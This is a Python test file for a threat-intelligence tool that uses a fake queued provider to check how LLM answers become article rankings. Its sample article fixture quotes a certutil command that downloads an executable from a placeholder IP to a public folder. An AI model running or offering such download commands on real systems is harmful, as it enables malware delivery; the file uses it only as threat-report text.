"""Ranking as a service, with the in-process queued provider: what rank_article makes of an answer."""

from __future__ import annotations

from ctistudio.config import load_settings
from ctistudio.llm import Gateway
from ctistudio.pipeline.rank import rank_article, reason_labels
from ctistudio.pipeline.sentences import split_sentences
from ctistudio.testing.queued_provider import QueuedProvider

ARTICLE = (
    "The actor ran certutil -urlcache -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe on each host. "
    "Persistence came from a scheduled task named UpdaterCheck. The report was published on a Tuesday."
)


def gateway_with(fake: QueuedProvider) -> Gateway:
    return Gateway(load_settings({"embedded": False}, env_file=None), providers={"queued": fake})


async def test_a_queued_answer_is_read_with_its_cited_sentence():
    label = reason_labels()[0]
    fake = QueuedProvider({"score": 8, "reasons": [label, label], "evidence": [1, 1]})
    async with gateway_with(fake) as gateway:
        outcome = await rank_article(gateway, ARTICLE)
    first = split_sentences(ARTICLE)[0]
    assert (outcome.score, outcome.reasons, outcome.origin) == (8, [label], "model")
    assert outcome.evidence == [first.quote]
    (request,) = fake.requests
    assert request.task == "rank" and request.response_schema is not None
    assert (request.temperature, request.seed) == (0.0, 42)  # the settings' sampling reaches passed-in providers


async def test_an_answer_unusable_after_the_repair_ranks_by_the_hunt_score():
    fake = QueuedProvider("a score of eight, I think", "still no JSON")
    async with gateway_with(fake) as gateway:
        outcome = await rank_article(gateway, ARTICLE)
    assert outcome.origin == "hunt_score" and outcome.reasons[0].startswith("deterministic hunt score")
    assert len(fake.requests) == 2 and fake.pending == 0  # the answer and the one repair
